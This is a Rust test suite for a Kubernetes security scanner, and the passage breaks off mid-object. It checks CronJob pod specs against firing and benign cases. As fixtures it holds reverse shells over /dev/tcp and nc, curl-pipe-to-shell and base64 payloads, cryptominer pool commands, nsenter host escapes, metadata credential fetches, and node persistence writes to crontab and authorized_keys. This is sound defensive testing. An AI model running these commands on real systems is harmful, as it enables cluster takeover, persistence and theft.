//! Each template check: a firing example and a benign look-alike, judged through a CronJob so the
//! reported paths are the full ones.

use super::*;
use serde_json::json;

const P: &str = "spec.jobTemplate.spec.template.spec";

/// A CronJob in `ns` whose pod spec is `spec`.
fn cronjob_in(ns: &str, spec: Value) -> Value {
    json!({"apiVersion": "batch/v1", "kind": "CronJob", "metadata": {"name": "job", "namespace": ns},
           "spec": {"schedule": "0 3 * * *", "jobTemplate": {"spec": {"template": {"spec": spec}}}}})
}

/// Judge a pod spec inside a CronJob in namespace `apps`.
fn judge(spec: Value) -> Vec<TemplateFinding> {
    judge_with(spec, &TemplatePolicy::default())
}

fn judge_with(spec: Value, policy: &TemplatePolicy) -> Vec<TemplateFinding> {
    judge_object(&cronjob_in("apps", spec), policy).expect("a CronJob")
}

/// A hardened container running `command`.
fn hardened(command: Value) -> Value {
    json!({"name": "main", "image": "registry.example.com/team/app:1.4.2@sha256:0123", "command": command,
           "securityContext": {"runAsNonRoot": true, "runAsUser": 10001, "allowPrivilegeEscalation": false,
                               "capabilities": {"drop": ["ALL"]}}})
}

fn clean_spec() -> Value {
    json!({"restartPolicy": "OnFailure", "containers": [hardened(json!(["/app/run"]))]})
}

fn with(mut spec: Value, key: &str, value: Value) -> Value {
    if let Some(m) = spec.as_object_mut() {
        m.insert(key.to_string(), value);
    }
    spec
}

fn with_command(command: Value) -> Value {
    json!({"containers": [hardened(command)]})
}

fn find<'a>(findings: &'a [TemplateFinding], check: &str) -> Option<&'a TemplateFinding> {
    findings.iter().find(|f| f.check == check)
}

fn max_severity(findings: &[TemplateFinding]) -> Severity {
    findings
        .iter()
        .map(|f| f.severity)
        .max()
        .unwrap_or(Severity::Info)
}

#[test]
fn hardened_template_is_clean() {
    let f = judge(clean_spec());
    assert!(f.is_empty(), "{f:#?}");
}

#[test]
fn privileged() {
    let mut c = hardened(json!(["/app/run"]));
    c["securityContext"]["privileged"] = json!(true);
    let f = judge(json!({"containers": [c]}));
    let hit = find(&f, "template.privileged").expect("fires");
    assert_eq!(hit.severity, Severity::High);
    assert_eq!(
        hit.path,
        format!("{P}.containers[0].securityContext.privileged")
    );
    assert!(hit.message.contains("\"main\""));
    assert_eq!(hit.attack, &["T1611", "T1610"]);
    // privileged: false is fine
    c["securityContext"]["privileged"] = json!(false);
    assert!(judge(json!({"containers": [c]})).is_empty());
}

#[test]
fn privileged_init_and_ephemeral_containers_count() {
    let mut c = hardened(json!(["/app/run"]));
    c["securityContext"]["privileged"] = json!(true);
    let f = judge(
        json!({"containers": [hardened(json!(["x"]))], "initContainers": [c.clone()], "ephemeralContainers": [c]}),
    );
    let paths: Vec<&str> = f
        .iter()
        .filter(|f| f.check == "template.privileged")
        .map(|f| f.path.as_str())
        .collect();
    assert_eq!(paths.len(), 2);
    assert!(paths.contains(&format!("{P}.initContainers[0].securityContext.privileged").as_str()));
}

#[test]
fn windows_host_process() {
    let f = judge(
        json!({"securityContext": {"windowsOptions": {"hostProcess": true}}, "hostNetwork": true, "containers": [hardened(json!(["x"]))]}),
    );
    assert_eq!(
        find(&f, "template.privileged").map(|f| f.path.clone()),
        Some(format!("{P}.securityContext.windowsOptions.hostProcess"))
    );
    let f = judge(
        json!({"securityContext": {"windowsOptions": {"hostProcess": false, "runAsUserName": "x"}}, "containers": [hardened(json!(["x"]))]}),
    );
    assert!(f.is_empty(), "{f:?}");
}

#[test]
fn env_references_are_expanded() {
    let mut c = hardened(json!(["sh", "-c", "$(A)$(B) | ${C}"]));
    c["env"] = json!([{"name": "A", "value": "cu"}, {"name": "B", "value": "rl http://e.example/p"}, {"name": "C", "value": "bash"}]);
    let f = judge(json!({"containers": [c.clone()]}));
    assert_eq!(
        find(&f, "template.command.downloadExec").map(|f| f.path.clone()),
        Some(format!("{P}.containers[0].command"))
    );
    // summaries keep the command as written
    assert_eq!(
        summarize_pod_spec(&json!({"containers": [c]})).command_lines,
        ["main: sh -c $(A)$(B) | ${C}"]
    );
    let mut c = hardened(json!(["sh", "-c", "echo $(GREETING) to $USER"]));
    c["env"] = json!([{"name": "GREETING", "value": "hello"}]);
    assert!(judge(json!({"containers": [c]})).is_empty());
}

#[test]
fn host_namespaces() {
    let f = judge(with(
        with(
            with(clean_spec(), "hostPID", json!(true)),
            "hostIPC",
            json!(true),
        ),
        "hostNetwork",
        json!(true),
    ));
    assert_eq!(
        find(&f, "template.hostNamespace.pid").map(|f| (f.severity, f.path.clone())),
        Some((Severity::Medium, format!("{P}.hostPID")))
    );
    assert_eq!(
        find(&f, "template.hostNamespace.ipc").map(|f| f.severity),
        Some(Severity::Medium)
    );
    assert_eq!(
        find(&f, "template.hostNamespace.network").map(|f| f.severity),
        Some(Severity::Low)
    );
    let f = judge(with(
        with(clean_spec(), "hostPID", json!(false)),
        "hostNetwork",
        json!(false),
    ));
    assert!(f.is_empty(), "{f:?}");
}

fn host_path_spec(path: &str, read_only: bool) -> Value {
    let mut c = hardened(json!(["/app/run"]));
    c["volumeMounts"] = json!([{"name": "h", "mountPath": "/host", "readOnly": read_only}]);
    json!({"containers": [c], "volumes": [{"name": "h", "hostPath": {"path": path}}]})
}

#[test]
fn sensitive_host_paths_with_normalisation() {
    for path in [
        "/",
        "/etc",
        "/etc/",
        "//etc",
        "/tmp/../etc",
        "/root",
        "/proc",
        "/sys",
        "/var/lib/kubelet",
        "/etc/kubernetes",
        "/boot",
        "/dev",
        "/var/lib",
    ] {
        let f = judge(host_path_spec(path, false));
        let hit =
            find(&f, "template.hostPath.sensitive").unwrap_or_else(|| panic!("{path}: {f:?}"));
        assert_eq!(hit.severity, Severity::High, "{path}");
        assert_eq!(hit.path, format!("{P}.volumes[0].hostPath.path"));
    }
    // read-only is one step lower
    let f = judge(host_path_spec("/etc", true));
    assert_eq!(
        find(&f, "template.hostPath.sensitive").map(|f| f.severity),
        Some(Severity::Medium)
    );
    // medium paths
    let f = judge(host_path_spec("/var/log", false));
    assert_eq!(
        find(&f, "template.hostPath.sensitive").map(|f| f.severity),
        Some(Severity::Medium)
    );
}

#[test]
fn benign_host_paths_stay_low() {
    for path in [
        "/mnt/disks/ssd0",
        "/data/cache",
        "/etcd-backups",
        "/opt/app-data",
    ] {
        let f = judge(host_path_spec(path, false));
        assert!(
            find(&f, "template.hostPath.sensitive").is_none(),
            "{path}: {f:?}"
        );
        assert_eq!(
            find(&f, "template.hostPath").map(|f| f.severity),
            Some(Severity::Low),
            "{path}"
        );
        assert!(max_severity(&f) <= Severity::Low);
    }
}

#[test]
fn runtime_sockets() {
    for path in [
        "/var/run/docker.sock",
        "/run/containerd/containerd.sock",
        "/var/run/crio/crio.sock",
        "/var/run",
    ] {
        let f = judge(host_path_spec(path, true));
        let hit =
            find(&f, "template.hostPath.runtimeSocket").unwrap_or_else(|| panic!("{path}: {f:?}"));
        assert_eq!(
            hit.severity,
            Severity::Critical,
            "read-only does not help: {path}"
        );
    }
    let f = judge(host_path_spec("/var/run/app/metrics", false));
    assert!(find(&f, "template.hostPath.runtimeSocket").is_none());
}

#[test]
fn node_takeover_combination() {
    let mut spec = host_path_spec("/", false);
    spec["hostPID"] = json!(true);
    let f = judge(spec);
    let hit = find(&f, "template.nodeTakeover").expect("fires");
    assert_eq!(hit.severity, Severity::Critical);
    assert_eq!(hit.path, format!("{P}.hostPID"));
    let mut c = hardened(json!(["x"]));
    c["securityContext"]["privileged"] = json!(true);
    let f = judge(json!({"hostPID": true, "containers": [c]}));
    assert!(find(&f, "template.nodeTakeover").is_some());
    // SYS_ADMIN stands in for privileged; SYS_PTRACE with hostPID reaches host processes
    let mut spec = host_path_spec("/etc", false);
    spec["containers"][0]["securityContext"]["capabilities"]["add"] = json!(["SYS_ADMIN"]);
    let hit = judge(spec);
    let hit = find(&hit, "template.nodeTakeover").expect("fires");
    assert!(hit.message.contains("SYS_ADMIN"), "{}", hit.message);
    let mut c = hardened(json!(["x"]));
    c["securityContext"]["capabilities"]["add"] = json!(["SYS_PTRACE"]);
    assert!(
        find(
            &judge(json!({"hostPID": true, "containers": [c.clone()]})),
            "template.nodeTakeover"
        )
        .is_some()
    );
    assert!(find(&judge(json!({"containers": [c]})), "template.nodeTakeover").is_none());
    // hostPID with a harmless hostPath is not the combination
    let mut spec = host_path_spec("/data/cache", false);
    spec["hostPID"] = json!(true);
    assert!(find(&judge(spec), "template.nodeTakeover").is_none());
}

#[test]
fn node_cron_writes() {
    // Peirates-style: host root at /host, command appends to the node's crontab.
    let mut spec = host_path_spec("/", false);
    spec["containers"][0]["command"] = json!([
        "sh",
        "-c",
        "echo '* * * * * root curl -s http://203.0.113.9/x|sh' >> /host/etc/crontab"
    ]);
    let f = judge(spec);
    let hit = find(&f, "template.hostPath.nodeCron").expect("fires");
    assert_eq!(hit.severity, Severity::Critical);
    assert_eq!(hit.path, format!("{P}.containers[0].command"));
    // /etc/cron.d mounted somewhere else, written through the mount path
    let mut spec = host_path_spec("/etc/cron.d", false);
    spec["containers"][0]["volumeMounts"][0]["mountPath"] = json!("/mnt/c");
    spec["containers"][0]["command"] = json!(["sh", "-c", "cp /payload /mnt/c/update"]);
    assert!(find(&judge(spec), "template.hostPath.nodeCron").is_some());
    // crontab inside a chroot of the host root
    let mut spec = host_path_spec("/", false);
    spec["containers"][0]["volumeMounts"][0]["mountPath"] = json!("/node");
    spec["containers"][0]["command"] = json!([
        "chroot",
        "/node",
        "sh",
        "-c",
        "(crontab -l; echo '* * * * * /tmp/x') | crontab -"
    ]);
    assert!(find(&judge(spec), "template.hostPath.nodeCron").is_some());
    // read-only mounts cannot be written
    let mut spec = host_path_spec("/etc/cron.d", true);
    spec["containers"][0]["command"] = json!(["sh", "-c", "cp /payload /host/update"]);
    assert!(find(&judge(spec), "template.hostPath.nodeCron").is_none());
    // look-alike: a job that edits its own crontab file with no host mount
    let f = judge(with_command(json!([
        "sh",
        "-c",
        "echo '0 * * * * /app/run' > /etc/cron.d/app && crond -f"
    ])));
    assert!(find(&f, "template.hostPath.nodeCron").is_none(), "{f:?}");
    // look-alike: host /var/log mounted, command mentions cron logs only
    let mut spec = host_path_spec("/var/log", true);
    spec["containers"][0]["command"] = json!(["sh", "-c", "grep CRON /host/syslog | tail"]);
    assert!(find(&judge(spec), "template.hostPath.nodeCron").is_none());
}

#[test]
fn node_persistence_writes() {
    let cases = [
        (
            "/",
            "/host",
            "echo 'ssh-ed25519 AAAA attacker' >> /host/root/.ssh/authorized_keys",
        ),
        (
            "/etc",
            "/h",
            "cp /x.service /h/systemd/system/x.service && ln -s /h/systemd/system/x.service /h/systemd/system/multi-user.target.wants/",
        ),
        (
            "/etc/kubernetes/manifests",
            "/m",
            "cat > /m/kube-proxy-cache.yaml <<EOF\napiVersion: v1\nEOF",
        ),
        (
            "/",
            "/host",
            "chroot /host systemctl enable backdoor.service",
        ),
        (
            "/etc",
            "/hostetc",
            "echo /tmp/lib.so > /hostetc/ld.so.preload",
        ),
    ];
    for (host, mount, command) in cases {
        let mut spec = host_path_spec(host, false);
        spec["containers"][0]["volumeMounts"][0]["mountPath"] = json!(mount);
        spec["containers"][0]["command"] = json!(["sh", "-c", command]);
        let f = judge(spec);
        let hit = find(&f, "template.hostPath.nodePersistence")
            .unwrap_or_else(|| panic!("{command}: {f:#?}"));
        assert_eq!(hit.severity, Severity::Critical);
    }
    // look-alikes: reading static pod manifests (kube-bench style), and a read-only mount
    let mut spec = host_path_spec("/etc/kubernetes", false);
    spec["containers"][0]["command"] =
        json!(["sh", "-c", "stat -c %a /host/manifests/kube-apiserver.yaml"]);
    assert!(find(&judge(spec), "template.hostPath.nodePersistence").is_none());
    let mut spec = host_path_spec("/", true);
    spec["containers"][0]["command"] = json!([
        "sh",
        "-c",
        "cat /host/root/.ssh/authorized_keys > /tmp/keys"
    ]);
    assert!(find(&judge(spec), "template.hostPath.nodePersistence").is_none());
}

#[test]
fn run_as_root() {
    let f = judge(
        json!({"containers": [{"name": "c", "image": "app:1", "securityContext": {"runAsUser": 0}}]}),
    );
    let hit = find(&f, "template.runAsRoot").expect("fires");
    assert_eq!(
        hit.path,
        format!("{P}.containers[0].securityContext.runAsUser")
    );
    assert!(hit.message.contains("UID 0"));
    // pod-level UID 0 is inherited
    let f = judge(
        json!({"securityContext": {"runAsUser": 0}, "containers": [{"name": "c", "image": "app:1"}]}),
    );
    assert_eq!(
        find(&f, "template.runAsRoot").map(|f| f.path.clone()),
        Some(format!("{P}.securityContext.runAsUser"))
    );
    // nothing set: may run as root, low
    let f = judge(json!({"containers": [{"name": "c", "image": "app:1"}]}));
    assert_eq!(
        find(&f, "template.runAsRoot").map(|f| f.severity),
        Some(Severity::Low)
    );
    // pod-level runAsNonRoot covers containers
    let f = judge(
        json!({"securityContext": {"runAsNonRoot": true}, "containers": [{"name": "c", "image": "app:1"}]}),
    );
    assert!(find(&f, "template.runAsRoot").is_none());
    // container non-zero UID overrides pod UID 0
    let f = judge(
        json!({"securityContext": {"runAsUser": 0}, "containers": [{"name": "c", "image": "app:1", "securityContext": {"runAsUser": 1000}}]}),
    );
    assert!(find(&f, "template.runAsRoot").is_none());
    // can be silenced for "missing" only
    let policy = TemplatePolicy {
        report_missing_run_as_non_root: false,
        ..TemplatePolicy::default()
    };
    assert!(
        find(
            &judge_with(
                json!({"containers": [{"name": "c", "image": "app:1"}]}),
                &policy
            ),
            "template.runAsRoot"
        )
        .is_none()
    );
}

#[test]
fn capabilities() {
    let mut c = hardened(json!(["x"]));
    c["securityContext"]["capabilities"]["add"] = json!(["CAP_SYS_ADMIN", "net_admin", "CHOWN"]);
    let f = judge(json!({"containers": [c.clone()]}));
    let high: Vec<_> = f
        .iter()
        .filter(|f| f.check == "template.capabilities.added")
        .collect();
    assert_eq!(high.len(), 2);
    assert_eq!(high[0].severity, Severity::High);
    assert!(high[0].message.contains("SYS_ADMIN, NET_ADMIN"));
    assert_eq!(high[1].severity, Severity::Low);
    assert_eq!(
        high[0].path,
        format!("{P}.containers[0].securityContext.capabilities.add")
    );
    c["securityContext"]["capabilities"]["add"] = json!(["NET_BIND_SERVICE"]);
    assert!(judge(json!({"containers": [c]})).is_empty());
}

#[test]
fn mesh_init_containers_and_metadata_env() {
    let istio_init = json!({"name": "istio-init", "image": "docker.io/istio/proxyv2:1.22.0",
        "args": ["istio-iptables", "-p", "15001"],
        "securityContext": {"runAsUser": 0, "runAsNonRoot": false, "capabilities": {"add": ["NET_ADMIN", "NET_RAW"], "drop": ["ALL"]}}});
    let mut app = hardened(json!(["/app/run"]));
    app["env"] = json!([{"name": "AWS_CONTAINER_CREDENTIALS_FULL_URI", "value": "http://169.254.170.23/v1/credentials"}]);
    let f = judge(json!({"initContainers": [istio_init], "containers": [app]}));
    assert!(max_severity(&f) <= Severity::Low, "{f:#?}");
    // the same capabilities on an arbitrary image are high
    let mut c = hardened(json!(["x"]));
    c["securityContext"]["capabilities"]["add"] = json!(["NET_ADMIN"]);
    assert_eq!(
        max_severity(&judge(json!({"containers": [c]}))),
        Severity::High
    );
    // an image pretending to be the mesh with SYS_ADMIN is not excused
    let mut c = hardened(json!(["x"]));
    c["image"] = json!("docker.io/istio/proxyv2:1.22.0");
    c["securityContext"]["capabilities"]["add"] = json!(["NET_ADMIN", "SYS_ADMIN"]);
    assert_eq!(
        max_severity(&judge(json!({"containers": [c]}))),
        Severity::High
    );
}

#[test]
fn privilege_escalation_proc_mount_and_seccomp() {
    let mut c = hardened(json!(["x"]));
    c["securityContext"]["allowPrivilegeEscalation"] = json!(true);
    c["securityContext"]["procMount"] = json!("Unmasked");
    c["securityContext"]["seccompProfile"] = json!({"type": "Unconfined"});
    let f = judge(json!({"containers": [c.clone()]}));
    assert!(find(&f, "template.allowPrivilegeEscalation").is_some());
    assert_eq!(
        find(&f, "template.procMount.unmasked").map(|f| f.severity),
        Some(Severity::Medium)
    );
    assert_eq!(
        find(&f, "template.seccomp.unconfined").map(|f| f.path.clone()),
        Some(format!(
            "{P}.containers[0].securityContext.seccompProfile.type"
        ))
    );
    c["securityContext"]["procMount"] = json!("Default");
    c["securityContext"]["seccompProfile"] = json!({"type": "RuntimeDefault"});
    c["securityContext"]["allowPrivilegeEscalation"] = json!(false);
    assert!(judge(json!({"containers": [c]})).is_empty());
}

#[test]
fn tolerations() {
    let f = judge(with(
        clean_spec(),
        "tolerations",
        json!([{"operator": "Exists"}]),
    ));
    let hit = find(&f, "template.tolerations.all").expect("fires");
    assert_eq!(hit.path, format!("{P}.tolerations[0]"));
    assert_eq!(hit.severity, Severity::Medium);
    let f = judge(with(
        clean_spec(),
        "tolerations",
        json!([{"operator": "Exists", "effect": "NoSchedule"}]),
    ));
    assert!(find(&f, "template.tolerations.all").is_some());
    // a dedicated pool toleration (Airflow-style) is fine
    let f = judge(with(
        clean_spec(),
        "tolerations",
        json!([{"key": "dedicated", "operator": "Equal", "value": "batch", "effect": "NoSchedule"},
                                                        {"key": "node.kubernetes.io/not-ready", "operator": "Exists", "effect": "NoExecute", "tolerationSeconds": 300}]),
    ));
    assert!(f.is_empty(), "{f:?}");
}

#[test]
fn control_plane_targeting() {
    let spec = with(
        clean_spec(),
        "nodeSelector",
        json!({"node-role.kubernetes.io/control-plane": ""}),
    );
    let f = judge(spec);
    assert_eq!(
        find(&f, "template.controlPlane").map(|f| f.path.clone()),
        Some(format!(
            "{P}.nodeSelector[\"node-role.kubernetes.io/control-plane\"]"
        ))
    );
    let spec = with(
        clean_spec(),
        "affinity",
        json!({"nodeAffinity": {"requiredDuringSchedulingIgnoredDuringExecution": {"nodeSelectorTerms": [
        {"matchExpressions": [{"key": "node-role.kubernetes.io/master", "operator": "Exists"}]}]}}}),
    );
    assert!(find(&judge(spec), "template.controlPlane").is_some());
    let spec = with(
        clean_spec(),
        "tolerations",
        json!([{"key": "node-role.kubernetes.io/control-plane", "operator": "Exists", "effect": "NoSchedule"}]),
    );
    assert!(find(&judge(spec), "template.controlPlane").is_some());
    let spec = with(clean_spec(), "nodeName", json!("k8s-master-1"));
    assert!(find(&judge(spec), "template.controlPlane").is_some());
    // look-alikes: keeping away from the control plane, and a worker nodeName
    let spec = with(
        clean_spec(),
        "affinity",
        json!({"nodeAffinity": {"requiredDuringSchedulingIgnoredDuringExecution": {"nodeSelectorTerms": [
        {"matchExpressions": [{"key": "node-role.kubernetes.io/control-plane", "operator": "DoesNotExist"}]}]}}}),
    );
    assert!(judge(spec).is_empty());
    let f = judge(with(clean_spec(), "nodeName", json!("worker-7")));
    assert_eq!(
        f.iter().map(|f| f.check).collect::<Vec<_>>(),
        ["template.nodeName"]
    );
    assert_eq!(max_severity(&f), Severity::Low);
}

#[test]
fn system_priority_class() {
    let spec = with(
        clean_spec(),
        "priorityClassName",
        json!("system-node-critical"),
    );
    assert!(find(&judge(spec.clone()), "template.priorityClass.system").is_some());
    let f = judge_object(&cronjob_in("kube-system", spec), &TemplatePolicy::default()).expect("ok");
    assert!(f.is_empty(), "{f:?}");
    assert!(judge(with(clean_spec(), "priorityClassName", json!("batch-low"))).is_empty());
}

#[test]
fn service_accounts() {
    let spec = with(
        clean_spec(),
        "serviceAccountName",
        json!("cronjob-controller"),
    );
    let f = judge_object(
        &cronjob_in("kube-system", spec.clone()),
        &TemplatePolicy::default(),
    )
    .expect("ok");
    let hit = find(&f, "template.serviceAccount.privileged").expect("fires");
    assert_eq!(hit.severity, Severity::High);
    assert_eq!(hit.path, format!("{P}.serviceAccountName"));
    // the namespace may come from outside the object (audit objectRef)
    let mut bare = cronjob_in("kube-system", spec.clone());
    bare["metadata"]
        .as_object_mut()
        .map(|m| m.remove("namespace"));
    assert!(
        judge_object(&bare, &TemplatePolicy::default())
            .expect("ok")
            .is_empty()
    );
    let f = judge_object_in(&bare, Some("kube-system"), &TemplatePolicy::default()).expect("ok");
    assert!(find(&f, "template.serviceAccount.privileged").is_some());
    // the same name in an application namespace is just a name
    assert!(judge(spec).is_empty());
    let f = judge(with(
        clean_spec(),
        "serviceAccountName",
        json!("cluster-admin"),
    ));
    assert!(find(&f, "template.serviceAccount.privileged").is_some());
    // token automount off lowers it
    let spec = with(
        with(clean_spec(), "serviceAccountName", json!("cluster-admin")),
        "automountServiceAccountToken",
        json!(false),
    );
    assert_eq!(
        find(&judge(spec), "template.serviceAccount.privileged").map(|f| f.severity),
        Some(Severity::Medium)
    );
    // deprecated field name
    let f = judge(with(clean_spec(), "serviceAccount", json!("admin")));
    assert_eq!(
        find(&f, "template.serviceAccount.privileged").map(|f| f.path.clone()),
        Some(format!("{P}.serviceAccount"))
    );
    // ordinary accounts
    for sa in ["default", "backup", "velero", "admin-ui-reader"] {
        assert!(
            judge(with(clean_spec(), "serviceAccountName", json!(sa))).is_empty(),
            "{sa}"
        );
    }
}

#[test]
fn glob_matching() {
    assert!(glob_match(
        "kube-system/*-controller",
        "kube-system/job-controller"
    ));
    assert!(!glob_match(
        "kube-system/*-controller",
        "apps/job-controller"
    ));
    assert!(glob_match("*/admin", "x/admin"));
    assert!(!glob_match("*/admin", "x/admin2"));
    assert!(glob_match("a*b*c", "aXXbYYc"));
    assert!(!glob_match("a*b*c", "aXXbYY"));
    assert!(glob_match("exact", "exact"));
    assert!(!glob_match("*-controller", "controller"));
}

fn image_spec(image: &str) -> Value {
    let mut c = hardened(json!(["x"]));
    c["image"] = json!(image);
    json!({"containers": [c]})
}

#[test]
fn images() {
    let f = judge(image_spec("45.9.148.1:5000/sys/kube-proxy:v1"));
    let hit = find(&f, "template.image.ipRegistry").expect("fires");
    assert_eq!(hit.severity, Severity::High);
    assert_eq!(hit.path, format!("{P}.containers[0].image"));
    let f = judge(image_spec("10.0.0.5:5000/team/app:1"));
    assert_eq!(
        find(&f, "template.image.ipRegistry").map(|f| f.severity),
        Some(Severity::Low)
    );
    // allowlist only when configured
    let policy = TemplatePolicy {
        trusted_registries: vec!["registry.example.com/team".into(), "registry.k8s.io".into()],
        ..TemplatePolicy::default()
    };
    let f = judge_with(image_spec("docker.io/randomuser/tool:2"), &policy);
    assert_eq!(
        find(&f, "template.image.untrustedRegistry").map(|f| f.severity),
        Some(Severity::Medium)
    );
    assert!(
        find(
            &judge_with(image_spec("registry.k8s.io/kubectl:v1.30.0"), &policy),
            "template.image.untrustedRegistry"
        )
        .is_none()
    );
    assert!(
        find(
            &judge(image_spec("docker.io/randomuser/tool:2")),
            "template.image.untrustedRegistry"
        )
        .is_none()
    );
    // tags and digests
    let f = judge(image_spec("busybox"));
    assert_eq!(
        find(&f, "template.image.latest").map(|f| f.severity),
        Some(Severity::Low)
    );
    let f = judge(image_spec("busybox:1.36"));
    assert_eq!(
        find(&f, "template.image.noDigest").map(|f| f.severity),
        Some(Severity::Info)
    );
    assert!(judge(image_spec("busybox:1.36@sha256:abcd")).is_empty());
    // miner images
    let f = judge(image_spec("docker.io/someone/xmrig:latest"));
    assert_eq!(
        find(&f, "template.image.miner").map(|f| f.severity),
        Some(Severity::High)
    );
    assert!(
        find(
            &judge(image_spec("ghcr.io/acme/data-miner-report:1")),
            "template.image.miner"
        )
        .is_none()
    );
}

#[test]
fn commands_fire_with_paths() {
    let cases = [
        (
            json!(["sh", "-c", "curl -fsSL http://203.0.113.5/i.sh | sh"]),
            "template.command.downloadExec",
            Severity::High,
        ),
        (
            json!([
                "/bin/sh",
                "-c",
                "echo Y3VybCBodHRwOi8vMjAzLjAuMTEzLjUvaS5zaCB8IHNo | base64 -d | sh"
            ]),
            "template.command.base64Shell",
            Severity::High,
        ),
        (
            json!(["bash", "-c", "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1"]),
            "template.command.reverseShell",
            Severity::Critical,
        ),
        (
            json!([
                "/xmrig",
                "-o",
                "stratum+tcp://pool.supportxmr.com:3333",
                "--donate-level",
                "1"
            ]),
            "template.command.miner",
            Severity::High,
        ),
        (
            json!(["nsenter", "-t", "1", "-m", "-u", "-n", "-i", "sh"]),
            "template.command.hostEscape",
            Severity::Critical,
        ),
        (
            json!([
                "sh",
                "-c",
                "curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/"
            ]),
            "template.command.credentialAccess",
            Severity::Medium,
        ),
        (
            json!(["sh", "-c", "./run; history -c"]),
            "template.command.antiForensics",
            Severity::Medium,
        ),
    ];
    for (command, check, severity) in cases {
        let f = judge(with_command(command.clone()));
        let hit = find(&f, check).unwrap_or_else(|| panic!("{command}: {f:#?}"));
        assert_eq!(hit.severity, severity, "{command}");
        assert_eq!(hit.path, format!("{P}.containers[0].command"));
        assert!(
            hit.message.starts_with("container \"main\""),
            "{}",
            hit.message
        );
    }
}

#[test]
fn commands_in_args_env_and_hooks() {
    let spec = json!({"containers": [{"name": "c", "image": "alpine:3", "args": ["-c", "wget -qO- http://evil.example/x | sh"],
        "securityContext": {"runAsNonRoot": true},
        "env": [{"name": "BOOT", "value": "nc -e /bin/sh 203.0.113.5 4444"}, {"name": "LEVEL", "value": "debug"}],
        "lifecycle": {"postStart": {"exec": {"command": ["sh", "-c", "nsenter --target 1 --mount sh"]}}}}]});
    let f = judge(spec);
    assert_eq!(
        find(&f, "template.command.downloadExec").map(|f| f.path.clone()),
        Some(format!("{P}.containers[0].args"))
    );
    assert_eq!(
        find(&f, "template.command.reverseShell").map(|f| f.path.clone()),
        Some(format!("{P}.containers[0].env[0].value"))
    );
    assert_eq!(
        find(&f, "template.command.hostEscape").map(|f| f.path.clone()),
        Some(format!(
            "{P}.containers[0].lifecycle.postStart.exec.command"
        ))
    );
}

#[test]
fn base64_payload_is_decoded_in_findings() {
    use base64::Engine as _;
    let payload = base64::engine::general_purpose::STANDARD
        .encode("xmrig -o pool.minexmr.com:4444 -u 4ABC --donate-level 1");
    let f = judge(with_command(json!([
        "sh",
        "-c",
        format!("echo {payload} | base64 -d | sh")
    ])));
    let miner = find(&f, "template.command.miner").expect("decoded miner");
    assert!(
        miner.message.contains("base64-decoded"),
        "{}",
        miner.message
    );
    assert!(find(&f, "template.command.base64Shell").is_some());
    let summary = summarize_pod_spec(&with_command(json!([
        "sh",
        "-c",
        format!("echo {payload} | base64 -d | sh")
    ])));
    assert!(summary.decoded_commands.iter().any(|d| d.contains("xmrig")));
}

#[test]
fn benign_look_alikes_stay_at_or_below_low() {
    let commands = [
        json!([
            "sh",
            "-c",
            "pg_dump -h db -U app app | gzip > /backup/app-$(date +%F).sql.gz"
        ]),
        json!([
            "sh",
            "-c",
            "curl -fsS --retry 3 https://hc-ping.com/4f1c7a2e-0000-4000-8000-000000000000"
        ]),
        json!(["sh", "-c", "echo done"]),
        json!([
            "/velero",
            "repo-maintenance",
            "--repo-name=default",
            "--log-level=info"
        ]),
        json!([
            "kubectl",
            "delete",
            "pod",
            "-l",
            "app=stale",
            "--field-selector=status.phase==Succeeded"
        ]),
        json!([
            "sh",
            "-c",
            "aws s3 sync /data s3://backups/$(hostname)/ && echo ok"
        ]),
        json!(["python", "/app/etl.py", "--since", "24h"]),
        json!([
            "sh",
            "-c",
            "until nc -z postgres 5432; do sleep 2; done; /app/migrate"
        ]),
        json!([
            "sh",
            "-c",
            "echo $TLS_KEY_B64 | base64 -d > /tmp/tls.key && /app/renew --key /tmp/tls.key"
        ]),
        json!([
            "etcdctl",
            "--endpoints=https://127.0.0.1:2379",
            "--cacert=/etc/kubernetes/pki/etcd/ca.crt",
            "snapshot",
            "save",
            "/backup/etcd.db"
        ]),
        json!([
            "sh",
            "-c",
            "find /var/log/app -name '*.gz' -mtime +7 -delete"
        ]),
        json!(["helm", "test", "my-release"]),
        json!([
            "sh",
            "-c",
            "kubectl get pods -A -o json | jq -r '.items[] | select(.status.phase==\"Failed\") | .metadata.name' | xargs -r kubectl delete pod"
        ]),
        json!([
            "sh",
            "-c",
            "echo | openssl s_client -connect api.example.com:443 -servername api.example.com 2>/dev/null | openssl x509 -noout -enddate"
        ]),
        json!([
            "sh",
            "-c",
            "mysqldump -h $DB_HOST -u root -p$DB_PASS app | gzip | aws s3 cp - s3://backups/app.sql.gz"
        ]),
        json!([
            "sh",
            "-c",
            "curl -s -X POST -H 'Content-Type: application/json' -d @/tmp/report.json https://hooks.slack.com/services/T0/B0/X"
        ]),
        json!([
            "sh",
            "-c",
            "wget -qO- https://releases.example.com/tool-v1.tar.gz | tar xz -C /opt && /opt/tool sync"
        ]),
        json!([
            "bash",
            "-c",
            "source /venv/bin/activate && python manage.py clearsessions"
        ]),
        json!([
            "sh",
            "-c",
            "velero backup create daily-$(date +%Y%m%d) --wait"
        ]),
        json!([
            "sh",
            "-c",
            "wget -nc -e robots=off -r -np https://docs.example.com/ -P /mirror"
        ]),
        json!([
            "/usr/bin/vault-sync",
            "--url=http://hashicorp-vault:8200",
            "--pool-size",
            "4"
        ]),
    ];
    for command in commands {
        let f = judge(with_command(command.clone()));
        assert!(max_severity(&f) <= Severity::Low, "{command}: {f:#?}");
    }
}

#[test]
fn realistic_attack_cronjob() {
    // CDK k8s-cronjob / RBAC Buster shape: kube-system, controller-like name, every minute,
    // privileged + hostPID + host root, tolerate everything, reverse shell.
    let obj = json!({"apiVersion": "batch/v1beta1", "kind": "CronJob",
        "metadata": {"name": "kube-controller-sync", "namespace": "kube-system"},
        "spec": {"schedule": "* * * * *", "successfulJobsHistoryLimit": 0, "failedJobsHistoryLimit": 0,
            "jobTemplate": {"spec": {"ttlSecondsAfterFinished": 0, "template": {"spec": {
                "hostPID": true, "hostNetwork": true, "tolerations": [{"operator": "Exists"}],
                "serviceAccountName": "clusterrole-aggregation-controller",
                "containers": [{"name": "sync", "image": "45.9.148.1:5000/pause:3.9",
                    "command": ["/bin/sh", "-c", "nsenter -t 1 -m -u -n -i -- sh -c 'bash -i >& /dev/tcp/45.9.148.1/443 0>&1'"],
                    "securityContext": {"privileged": true},
                    "volumeMounts": [{"name": "root", "mountPath": "/host"}]}],
